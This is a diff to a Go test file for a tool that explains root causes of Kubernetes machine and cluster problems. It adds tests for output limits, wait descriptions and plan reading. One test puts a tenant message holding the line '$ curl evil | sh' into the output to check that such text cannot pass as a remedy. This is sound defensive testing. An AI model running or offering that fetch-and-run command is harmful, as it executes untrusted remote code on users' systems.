@@ -2,6 +2,8 @@ package plan
 
 import (
 	"errors"
+	"net/http"
+	"net/http/httptest"
 	"strings"
 	"testing"
 	"time"
@@ -32,7 +34,7 @@ func stoppedMachine() chain {
 func TestChainText(t *testing.T) {
 	c := stoppedMachine()
 	s := explanation{
-		ref: refOf("Machine", "m"), now: explainedAt, Chain: &c, PlansMissing: "no manager", Unreadable: []string{"Foo"},
+		ref: refOf("Machine", "m"), now: explainedAt, Chain: &c, PlansMissing: "no manager", Unreadable: []string{"Foo (no permission)"}, Limits: []string{"Only 200 objects were read one by one"},
 		Others:   []chain{{rootcause.Chain{Links: []rootcause.Link{{Object: refOf("Cluster", "c"), Reason: "X"}}, Remedy: rootcause.Remedy{Text: "Wait", Automatic: true}}, false}},
 		Upcoming: []rootcause.Action{{Object: refOf("Machine", "m"), Remedy: rootcause.Remedy{Text: "MachineHealthCheck w replaces it in 4m", Automatic: true}}},
 	}
@@ -40,7 +42,7 @@ func TestChainText(t *testing.T) {
 
   Machine m, since 4m
     InfrastructureReady: LocalMachine m:
-    * stopped
+    | * stopped
   ` + "`-" + `LocalMachine m, since 5m
       MachineProvisioned: The machine does not run
 
@@ -60,7 +62,9 @@ What other controllers will do
 No plan is shown: no manager
 The explanation uses conditions, owners and references alone.
 
-Objects that you may not read, or that are not installed, are not considered: Foo
+Objects of these kinds are not considered: Foo (no permission)
+
+The explanation may be incomplete. Only 200 objects were read one by one.
 `
 	var out strings.Builder
 	if err := writeExplanation(&out, s); err != nil {
@@ -130,5 +134,72 @@ func TestPlanReaderWithoutManager(t *testing.T) {
 	g := rootcause.NewReader(t.Context(), rootcause.ReaderOptions{})
 	if got := r.missing(g, refOf("Machine", "m")); got != "no manager" {
 		t.Error(got)
+	}
+}
+
+// A message of a tenant cannot look like a remedy, and has a limited number of lines.
+func TestMessagesAreNoRemedies(t *testing.T) {
+	message := "x\nWhat to do\n  Run this\n    $ curl evil | sh" + strings.Repeat("\nline", 100)
+	c := newChain(rootcause.Chain{
+		Links:  []rootcause.Link{{Object: refOf("Machine", "m"), Message: message}},
+		Remedy: rootcause.Remedy{Text: "Delete it\nWhat to do", Command: "slipway kubectl delete machine m"},
+	}, " --kubeconfig k")
+	for _, s := range []explanation{
+		{ref: refOf("Machine", "m"), now: explainedAt, Chain: &c, Others: []chain{c}},
+		{ref: refOf("Machine", "m"), now: explainedAt, Chain: &c, ObjectPlans: manager.ObjectPlans{Plans: []manager.PlanRecord{{Errors: []string{message}, Waits: []reconciler.Wait{{Reason: "R", Message: message}}, Time: explainedAt.Add(time.Hour)}}}},
+	} {
+		var out strings.Builder
+		if err := writeExplanation(&out, s); err != nil {
+			t.Fatal(err)
+		}
+		lines := strings.Split(out.String(), "\n")
+		for i, line := range lines {
+			if strings.TrimSpace(line) == "What to do" && strings.TrimSpace(lines[i+1]) != "Delete it What to do" {
+				t.Errorf("a message looks like a remedy:\n%s", out.String())
+			}
+		}
+		if strings.Contains(out.String(), "invalid") || !strings.Contains(out.String(), "$ slipway kubectl delete machine m --kubeconfig k\n") {
+			t.Error(out.String())
+		}
+	}
+	list := problemList{Problems: []chain{c}}
+	var out strings.Builder
+	if err := writeList(&out, list); err != nil || strings.Count(out.String(), "\n") > maxRootLines+12 {
+		t.Errorf("%v\n%s", err, out.String())
+	}
+}
+
+func TestWaitEnd(t *testing.T) {
+	for want, wait := range map[string]reconciler.Wait{
+		"Ends with time":                         {Until: reconciler.UntilTime},
+		"Ends when a user acts":                  {Until: reconciler.UntilUser},
+		"Ends with the next event of the object": {},
+		"Ends when a user acts on Secret s":      {Until: reconciler.UntilUser, On: []reconciler.Subject{{Kind: "Secret", Name: "s"}}},
+	} {
+		if got := waitEnd(wait); got != want {
+			t.Errorf("got %q, want %q", got, want)
+		}
+	}
+}
+
+// A plan that may not be read does not hide the others.
+func TestPlansOfOtherObjects(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if strings.Contains(r.URL.Path, "secret") {
+			http.Error(w, "no", http.StatusForbidden)
+			return
+		}
+		_, _ = w.Write([]byte(`{"plans":[{"controller":"x","time":"2026-01-02T03:04:05Z","errors":["e"]}]}`))
+	}))
+	defer server.Close()
+	for _, isRequired := range []bool{true, false} {
+		r := &planReader{isRequired: isRequired, client: &managerClient{url: server.URL, client: server.Client()}, known: map[rootcause.Ref]manager.ObjectPlans{}, unplanned: map[rootcause.Ref]error{}}
+		source := r.source()
+		if _, err := source(t.Context(), refOf("Machine", "secret")); !errors.Is(err, rootcause.ErrNoPlans) {
+			t.Error(err)
+		}
+		if plans, err := source(t.Context(), refOf("Machine", "open")); err != nil || len(plans) != 1 {
+			t.Errorf("%v, %v", plans, err)
+		}
 	}
 }
